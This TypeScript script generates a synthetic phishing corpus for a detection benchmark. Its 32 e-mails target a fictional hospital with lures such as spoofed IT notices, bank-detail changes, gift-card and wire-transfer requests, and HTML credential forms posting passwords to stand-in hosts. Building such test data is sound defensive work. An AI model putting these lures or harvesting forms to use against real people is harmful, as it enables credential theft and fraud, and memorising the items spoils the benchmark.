/**
 * Writes corpus/*.eml: synthetic phishing mails, one or more per warning sign, for bench/phishing.
 *
 * Written by hand to look like the phishing security teams see (lures, senders and structure as in
 * public phishing reports), not to fit the checker: several pass SPF/DKIM/DMARC, some carry no link
 * at all, some come from a real-looking but unrelated domain. All names, domains and addresses are
 * fictional (.example, .test or made-up registrations). Each mail is an RFC 5322 message with CRLF
 * line ends; those with attachments are RFC 2046 multipart/mixed.
 *
 *   npx tsx bench/phishing/make-corpus.ts
 */
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const OUT = path.join(path.dirname(fileURLToPath(import.meta.url)), 'corpus');
/** A 1x1 PNG, standing in for the QR code image. */
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082',
  'hex',
).toString('base64');

/** Base64 of bytes written as a string, one character a byte (\xNN for the unprintable ones). */
const b64 = (bytes: string): string => Buffer.from(bytes, 'latin1').toString('base64');

function received(host: string, ip: string): string {
  const second = String(Number(ip.split('.').at(-1)) % 60).padStart(2, '0');
  return `from ${host} (${host} [${ip}])\r\n\tby mx1.stmarys-hospital.org (Postfix) with ESMTPS id 4Qx7Lm2kZ9z1\r\n\tfor <j.devries@stmarys-hospital.org>; Tue, 17 Nov 2026 08:13:${second} +0100 (CET)`;
}

/** Writes corpus/<name>.eml: MIME-Version, `headers`, then Date, To and Message-ID unless given, then Content-Type. */
function mail(name: string, headers: Record<string, string>, body: string, options: { ctype?: string; extraParts?: string[] } = {}): void {
  const ctype = options.ctype ?? 'text/plain; charset=utf-8';
  const h: Record<string, string> = { 'MIME-Version': '1.0', ...headers };
  h['Date'] ??= 'Tue, 17 Nov 2026 08:14:03 +0100';
  h['To'] ??= 'Jan de Vries <j.devries@stmarys-hospital.org>';
  const fromDomain = h['From']!.split('@').at(-1)!.replace(/>+$/, '');
  // The body's length in code points, as the Python original counted it.
  h['Message-ID'] ??= `<${createHash('sha256').update(name).digest('hex').slice(0, 16)}.${[...body].length}@${fromDomain}>`;
  let text: string;
  if (options.extraParts) {
    const boundary = '----=_Part_8841_1620.17632';
    h['Content-Type'] = `multipart/mixed; boundary="${boundary}"`;
    const parts = [`Content-Type: ${ctype}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}`, ...options.extraParts];
    text = parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('') + `--${boundary}--\r\n`;
  } else {
    h['Content-Type'] = ctype;
    text = body;
  }
  const out = Object.entries(h).map(([k, v]) => `${k}: ${v}\r\n`).join('') + '\r\n' + text.replaceAll('\r\n', '\n').replaceAll('\n', '\r\n');
  writeFileSync(path.join(OUT, `${name}.eml`), out);
}

function attachment(filename: string, ctype: string, contentB64: string): string {
  return `Content-Type: ${ctype}; name="${filename}"\r\nContent-Disposition: attachment; filename="${filename}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${contentB64}`;
}

function ar(spf: string, dkim: string, dmarc: string, dom: string): string {
  return `mx1.stmarys-hospital.org; spf=${spf} smtp.mailfrom=${dom}; dkim=${dkim} header.d=${dom}; dmarc=${dmarc} header.from=${dom}`;
}

// 01 Forged own domain, DMARC fails (classic exact-domain spoof), password expiry.
mail('01-dmarc-fail-password-expiry', {
  'Received': received('vps-2231.hostrack.example', '185.220.14.61'),
  'Authentication-Results': ar('softfail', 'none', 'fail', 'stmarys-hospital.org'),
  'From': 'IT Service Desk <servicedesk@stmarys-hospital.org>',
  'Subject': 'Your network password expires today',
}, `Hello,

Your St Mary's network password expires today at 17:00. To keep access to e-mail and the
patient record system, confirm your current password on the staff portal:

https://staff-portal-stmarys.web-login.example/renew?u=j.devries

If you do not renew, your account will be locked and you will need to visit the IT desk in person.

IT Service Desk
`);

// 02 SPF fail + DKIM fail, lab results portal.
mail('02-spf-dkim-fail-lab-results', {
  'Received': received('mail.labnotify-eu.example', '45.137.21.9'),
  'Authentication-Results': ar('fail', 'fail', 'none', 'labcorp-results.example'),
  'From': 'Lab Results <noreply@labcorp-results.example>',
  'Subject': 'New critical lab result awaiting review (Ref 77120)',
}, `A critical result has been released for one of your patients.

Open the secure results viewer to review and acknowledge it:
http://results-viewer.labcorp-results.example/viewer/77120

You will be asked to sign in with your hospital account.
`);

// 03 No authentication at all, HR payroll, generic greeting.
mail('03-no-auth-payroll', {
  'Received': received('smtp.bulkmailer.example', '91.92.240.17'),
  'Authentication-Results': 'mx1.stmarys-hospital.org; spf=none smtp.mailfrom=payroll-update.example; dkim=none; dmarc=none',
  'From': 'Payroll Department <payroll@payroll-update.example>',
  'Subject': 'Action required: update your direct deposit details',
}, `Dear Employee,

Due to our migration to a new payroll provider, all staff must re-enter their bank details
before the next pay run. Failure to update will delay your December salary.

Update here: https://payroll-update.example/employee/verify

Human Resources
`);

// 04 Display name carrying the colleague's real address; gift cards (BEC, no link).
mail('04-display-name-spoof-gift-cards', {
  'Received': received('mail-ej1-f44.google.example', '209.85.166.44'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'gmail.com'),
  'From': '"m.bakker@stmarys-hospital.org" <mbakker.office2026@gmail.com>',
  'Subject': 'Quick favour',
}, `Jan, are you at your desk? I'm in a meeting with the board and cannot call.

I need you to get 6 Apple gift cards of 100 euro each for the nurses' appreciation day. Scratch the
backs and send me photos of the codes. I'll reimburse you this afternoon.

Marieke
Sent from my iPhone
`);

// 05 Reply-To diverges: invoice redirect (BEC, vendor impersonation, passes auth on its own domain).
mail('05-reply-to-bank-change', {
  'Received': received('mail.medsupply-bv.example', '193.42.33.8'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'medsupply-bv.example'),
  'From': 'Accounts Receivable <accounts@medsupply-bv.example>',
  'Reply-To': 'accounts.medsupply@outlook.com',
  'Subject': 'Updated remittance information - invoice 2026-4471',
}, `Good morning,

Please note that our bank account has changed following an audit. All outstanding invoices,
including 2026-4471 (EUR 18,420.00), must be paid to the new account below from today.

IBAN: NL20 INGB 0009 8765 43
Account name: MedSupply Holdings

Kindly confirm once the bank details have been updated in your system.

Kind regards,
Accounts Receivable
`);

// 06 Lookalike own domain (l -> 1), credentials, passes its own SPF/DKIM.
mail('06-lookalike-own-domain', {
  'Received': received('mail.stmarys-hospita1.org', '5.188.62.140'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'stmarys-hospita1.org'),
  'From': 'St Mary\'s Roster Office <roster@stmarys-hospita1.org>',
  'Subject': 'Roster change for week 48 - please confirm',
}, `Hi Jan,

Your shifts for week 48 have been changed (night shifts on 24 and 25 November).
Please log in to the roster portal to accept or decline before Friday:

https://roster.stmarys-hospita1.org/login

Roster Office
`);

// 07 Punycode sender and link (Cyrillic a), Microsoft brand.
mail('07-punycode-microsoft', {
  'Received': received('mx.xn--micrsoft-5pe.example', '103.75.190.12'),
  'Authentication-Results': ar('pass', 'none', 'none', 'xn--mcrosoft-k7a.com'),
  'From': 'Microsoft 365 <no-reply@xn--mcrosoft-k7a.com>',
  'Subject': 'Unusual sign-in activity',
}, `<html><body>
<p>We detected unusual sign-in activity on your Microsoft 365 account from Lagos, Nigeria.</p>
<p>If this wasn't you, secure your account now:</p>
<p><a href="https://login.xn--mcrosoft-k7a.com/secure">Review recent activity</a></p>
<p>The Microsoft account team</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 08 Link text shows one address, goes to another (HTML).
mail('08-link-text-mismatch-ehr', {
  'Received': received('relay.cloudmta.example', '172.245.9.13'),
  'Authentication-Results': ar('pass', 'pass', 'none', 'ehr-notifications.example'),
  'From': 'EHR Notifications <notify@ehr-notifications.example>',
  'Subject': 'You have 3 unsigned orders',
}, `<html><body>
<p>Dear Dr. de Vries,</p>
<p>You have 3 unsigned medication orders that require your electronic signature within 24 hours.</p>
<p>Sign them at <a href="https://ehr-sign.clinicalportal-login.example/orders?id=3381">https://ehr.stmarys-hospital.org/orders</a></p>
<p>This is an automated message.</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 09 Link to a bare IP address, parcel delivery.
mail('09-ip-link-parcel', {
  'Received': received('srv1.parcel-notices.example', '80.66.88.204'),
  'From': 'DHL Express <tracking@parcel-notices.example>',
  'Subject': 'Delivery attempt failed: pharmacy consignment 7731882',
}, `Hello,

We tried to deliver your pharmacy consignment 7731882 today but nobody signed for it.
A customs fee of EUR 1.99 is outstanding. Reschedule delivery and pay the fee here:

http://80.66.88.204/dhl/reschedule.php?id=7731882

Unclaimed parcels are returned to the sender after 48 hours.
`);

// 10 Userinfo trick: https://stmarys-hospital.org@evil/...
mail('10-userinfo-link', {
  'Received': received('mail.webhost-77.example', '194.26.29.113'),
  'From': 'Mailbox Administrator <admin@mailsvc-notify.example>',
  'Subject': 'Mailbox quota 98% full',
}, `<html><body>
<p>Your mailbox is 98% full. New messages will be rejected after today.</p>
<p><a href="https://stmarys-hospital.org@quota-upgrade.mailsvc-notify.example/upgrade">Increase quota now</a></p>
<p>Webmail Team</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 11 Shortened link + urgency, CME certificate.
mail('11-shortened-link-cme', {
  'Received': received('out.mailcampaigns.example', '149.56.12.90'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'mailcampaigns.example'),
  'From': 'CME Accreditation Board <certificates@mailcampaigns.example>',
  'Subject': 'Your CME certificate is ready - download before it expires',
}, `Dear participant,

Your continuing medical education certificate (12 credits) is ready. The download link expires in 48 hours.

Download: https://bit.ly/3CmeCert26

Accreditation Board
`);

// 12 "Document" that is really a link (OneDrive share lure).
mail('12-fake-attachment-link', {
  'Received': received('mail.scan-share.example', '38.180.41.7'),
  'From': 'Ward 4 Scanner <scanner@scan-share.example>',
  'Subject': 'Scanned document from Ward 4',
}, `<html><body>
<p>A document was scanned and shared with you.</p>
<p><a href="https://scan-share.example/view/5521">Patient_transfer_form.pdf</a></p>
<p>Pages: 3 &middot; Resolution: 300 dpi</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 13 HTML attachment (credential page delivered as a file), fax lure.
mail('13-html-attachment-fax', {
  'Received': received('mx.efax-delivery.example', '141.98.10.56'),
  'From': 'eFax <message@efax-delivery.example>',
  'Subject': 'You have received a 2 page fax from +31 20 555 0192',
}, `You have received a new fax. Open the attached document to view it.

Pages: 2
Received: 17/11/2026 08:02
`, { extraParts: [attachment('Fax_Document_20261117.html', 'text/html', b64('<html><body><form action="https://collect.example/p" method="post"><input name="email"><input type="password" name="pass"></form></body></html>'))] });

// 14 Double extension executable in a zip-like name.
mail('14-double-extension', {
  'Received': received('mail.invoice-center.example', '185.81.157.22'),
  'From': 'Billing <billing@invoice-center.example>',
  'Subject': 'Overdue invoice INV-88213',
}, `Hello,

Please find attached the overdue invoice INV-88213. Payment is required immediately to avoid
suspension of service.

Regards,
Billing
`, { extraParts: [attachment('INV-88213.pdf.exe', 'application/octet-stream', b64('MZ synthetic not a real program'))] });

// 15 QR code in an image attachment, MFA re-enrolment (quishing).
mail('15-qr-code-mfa', {
  'Received': received('smtp.secure-auth-notice.example', '23.94.5.117'),
  'Authentication-Results': ar('pass', 'pass', 'none', 'secure-auth-notice.example'),
  'From': 'Security Team <security@secure-auth-notice.example>',
  'Subject': 'MFA re-enrolment required',
}, `Hello,

Our multi-factor authentication is being upgraded. All staff must re-enrol their authenticator
today. Scan the QR code in the attachment with your phone camera and follow the steps.

Security Team
`, { extraParts: [attachment('mfa-enrolment.png', 'image/png', PNG)] });

// 16 HTML form with a password field inside the mail.
mail('16-html-password-form', {
  'Received': received('mail.webmail-verify.example', '5.42.199.51'),
  'From': 'Webmail Support <support@webmail-verify.example>',
  'Subject': 'Verify your mailbox',
}, `<html><body>
<p>Dear webmail user,</p>
<p>To continue receiving mail, verify your mailbox below.</p>
<form action="https://webmail-verify.example/collect" method="post">
E-mail: <input name="email"><br>Password: <input type="password" name="password"><br>
<input type="submit" value="Verify">
</form>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 17 javascript: / data: link.
mail('17-data-uri-link', {
  'Received': received('mail.docshare-online.example', '45.95.147.31'),
  'From': 'DocuSign <dse@docshare-online.example>',
  'Subject': 'Please review and sign: Employment agreement amendment',
}, `<html><body>
<p>Human Resources sent you a document to review and sign.</p>
<p><a href="data:text/html;base64,PGgxPlNpZ24gaW48L2gxPg==">REVIEW DOCUMENT</a></p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 18 Official-sounding name on a free mail account, no link (reply-based).
mail('18-free-mail-it-helpdesk', {
  'Received': received('mail-sor-f41.google.example', '209.85.220.41'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'gmail.com'),
  'From': 'St Marys IT Helpdesk <stmarys.ithelpdesk@gmail.com>',
  'Subject': 'Account verification',
}, `Hello,

We are upgrading the e-mail server this weekend. To avoid losing your mailbox, reply to this
message with your username and current password so we can migrate your data.

IT Helpdesk
`);

// 19 Brand in the display name, unrelated domain, invoice.
mail('19-brand-display-name-paypal', {
  'Received': received('mail.shop-notify.example', '62.204.41.99'),
  'Authentication-Results': ar('pass', 'pass', 'none', 'shop-notify.example'),
  'From': 'PayPal Service <service@shop-notify.example>',
  'Subject': 'Receipt for your payment to Medical Supplies Ltd',
}, `You sent a payment of EUR 749.00 to Medical Supplies Ltd.

If you did not authorise this transaction, cancel it and verify your account within 24 hours:
https://shop-notify.example/paypal/dispute

PayPal
`);

// 20 Lookalike brand domain with a hyphen (microsoft-support), link mismatch, urgency.
mail('20-brand-hyphen-sharepoint', {
  'Received': received('mx1.microsoft-sharepoint-files.example', '104.168.44.21'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'microsoft-sharepoint-files.example'),
  'From': 'SharePoint Online <no-reply@microsoft-sharepoint-files.example>',
  'Subject': 'Dr. Bakker shared "Q4 Bonus Allocation.xlsx" with you',
}, `<html><body>
<p>Dr. Bakker shared a file with you.</p>
<p><b>Q4 Bonus Allocation.xlsx</b></p>
<p><a href="https://microsoft-sharepoint-files.example/s/q4bonus">Open</a></p>
<p>This link will work for anyone who has it and expires soon.</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 21 Patient complaint with a zip attachment (malware), passes auth, no credential ask.
mail('21-zip-attachment-complaint', {
  'Received': received('mail.familylaw-partners.example', '91.215.85.10'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'familylaw-partners.example'),
  'From': 'R. Janssen <r.janssen@familylaw-partners.example>',
  'Subject': 'Formal complaint regarding treatment of my client',
}, `Dear Sir/Madam,

On behalf of my client I submit a formal complaint regarding the treatment received on your ward
in October. The full statement and medical evidence are attached. We expect a written response
within 14 days.

R. Janssen
Family Law Partners
`, { extraParts: [attachment('Complaint_Statement_Evidence.zip', 'application/zip', b64('PK\x03\x04 synthetic'))] });

// 22 Dutch-language password lure (wachtwoord), lookalike of own domain by hyphen change.
mail('22-dutch-wachtwoord', {
  'Received': received('mail.st-marys-hospital.example', '178.20.45.61'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'st-marys-hospital.example'),
  'From': 'ICT Servicedesk <ict@st-marys-hospital.example>',
  'Subject': 'Uw wachtwoord verloopt vandaag',
}, `Beste collega,

Uw wachtwoord verloopt vandaag. Bevestig uw huidige wachtwoord via onderstaande link om
toegang tot het EPD te behouden:

https://st-marys-hospital.example/wachtwoord/verlengen

Met vriendelijke groet,
ICT Servicedesk
`);

// 23 Voicemail lure with an .htm attachment via a mail that passes everything (compromised sender).
mail('23-voicemail-htm', {
  'Received': received('mail.greenfield-dental.example', '66.29.141.90'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'greenfield-dental.example'),
  'From': 'Voice Services <voicemail@greenfield-dental.example>',
  'Subject': 'New voicemail (00:47) from +31 6 1234 5678',
}, `You have a new voicemail.

Duration: 00:47
Caller: +31 6 1234 5678

Open the attachment to listen.
`, { extraParts: [attachment('VM_Playback_0047.htm', 'text/html', b64('<html><script>location="https://collect.example"</script></html>'))] });

// 24 MFA fatigue / phone pretext: no link, asks for a code by reply.
mail('24-mfa-code-by-reply', {
  'Received': received('mail-qv1-f53.google.example', '209.85.219.53'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'gmail.com'),
  'From': 'IT Security Desk <itsecurity.stmarys@gmail.com>',
  'Subject': 'Re: sign-in prompts',
}, `Hi Jan,

Following up on the call from our security desk a moment ago: you will get several sign-in
prompts on your phone in the next minutes while we reset your account. Please approve them, and
reply with the 6-digit verification code you receive by SMS so we can finish the reset.

Thanks,
IT Security Desk
`);

// 25 Research survey with a gift card reward, link text mismatch, generic greeting.
mail('25-survey-gift-card', {
  'Received': received('mail.survey-rewards.example', '198.12.88.77'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'survey-rewards.example'),
  'From': 'Clinical Research Office <research@survey-rewards.example>',
  'Subject': 'Staff wellbeing survey - 50 EUR gift card for participants',
}, `<html><body>
<p>Dear colleague,</p>
<p>Complete our 5-minute staff wellbeing survey and receive a 50 EUR gift card.</p>
<p><a href="https://survey-rewards.example/s/wellbeing?r=stmarys">https://research.stmarys-hospital.org/survey</a></p>
<p>Sign in with your hospital account to start.</p>
</body></html>`, { ctype: 'text/html; charset=utf-8' });

// 26 Amazon order lure, lookalike with digit (amaz0n).
mail('26-amazon-lookalike-digit', {
  'Received': received('mail.amaz0n-orders.example', '185.196.8.151'),
  'From': 'Amazon <order-update@amaz0n-orders.example>',
  'Subject': 'Your order #402-7719021 could not be shipped',
}, `Hello,

We were unable to process the payment for your order #402-7719021. Update your billing information
to avoid cancellation:

https://amaz0n-orders.example/billing/update

Amazon Customer Service
`);

// 27 CEO fraud: urgent wire transfer, reply-to mismatch, no link.
mail('27-ceo-wire-transfer', {
  'Received': received('mail.exec-mailer.example', '77.83.36.19'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'exec-mailer.example'),
  'From': 'Dr. H. Smit, CEO <h.smit@exec-mailer.example>',
  'Reply-To': 'h.smit.ceo@proton.me',
  'Subject': 'Confidential - acquisition payment',
}, `Jan,

I need you to process an urgent wire transfer of EUR 48,500 today for a confidential acquisition.
Legal will send the details. Do not discuss this with anyone until the announcement.

Confirm as soon as possible that you can handle it.

H. Smit
`);

// 28 Lookalike via "rn" for "m" in an Office 365 lure, credential ask.
mail('28-rn-lookalike-office', {
  'Received': received('mail.rnicrosoftonline.example', '194.87.31.9'),
  'From': 'Office 365 <admin@rnicrosoft.example>',
  'Subject': 'Password reset requested',
}, `A password reset was requested for j.devries@stmarys-hospital.org.

If you did not request this, cancel the request by signing in:
https://login.rnicrosoft.example/cancel-reset

Microsoft Online Services
`);

// 29 Pharmacy "prescription verification" with text link to a different domain, plain text.
mail('29-pharmacy-verification', {
  'Received': received('mail.rx-verify.example', '45.148.10.240'),
  'Authentication-Results': ar('neutral', 'none', 'none', 'rx-verify.example'),
  'From': 'Central Pharmacy <pharmacy@rx-verify.example>',
  'Subject': 'Controlled substance prescription flagged for verification',
}, `Dear prescriber,

A controlled substance prescription issued under your credentials has been flagged. Confirm your
identity within 24 hours or your prescribing rights will be suspended:

https://rx-verify.example/prescriber/confirm

Central Pharmacy
`);

// 30 Macro-enabled document (docm), shift bonus lure.
mail('30-docm-attachment', {
  'Received': received('mail.hr-benefits.example', '185.225.74.3'),
  'From': 'HR Benefits <benefits@hr-benefits.example>',
  'Subject': 'Revised holiday shift bonus - please review',
}, `Hello,

Attached is the revised holiday shift bonus schedule. Enable editing to see your amount.

HR Benefits
`, { extraParts: [attachment('Holiday_Bonus_2026.docm', 'application/vnd.ms-word.document.macroEnabled.12', b64('PK synthetic'))] });

// 31 Subtle: compromised real supplier account, passes all auth, plain link to a file host, mild tone.
mail('31-compromised-supplier-subtle', {
  'Received': received('mail.northline-medical.example', '51.89.7.22'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'northline-medical.example'),
  'From': 'Petra Vos <p.vos@northline-medical.example>',
  'Subject': 'Updated price list 2027',
}, `Hi Jan,

As discussed, here is our updated price list for 2027. You can view it here:

https://northline-docs.filehost-share.example/d/8812

Let me know if you have questions.

Best,
Petra
`);

// 32 Subtle: calendar invite for a mandatory training, link to a lookalike LMS, no urgency words.
mail('32-training-invite-subtle', {
  'Received': received('mail.learning-stmarys.example', '89.117.22.5'),
  'Authentication-Results': ar('pass', 'pass', 'pass', 'learning-stmarys.example'),
  'From': 'Learning & Development <training@learning-stmarys.example>',
  'Subject': 'Mandatory information security training - Q4',
}, `Dear colleague,

The Q4 information security module is now available. Sign in to your account with your hospital
credentials to complete it:

https://learning-stmarys.example/lms/login

Learning & Development
`);
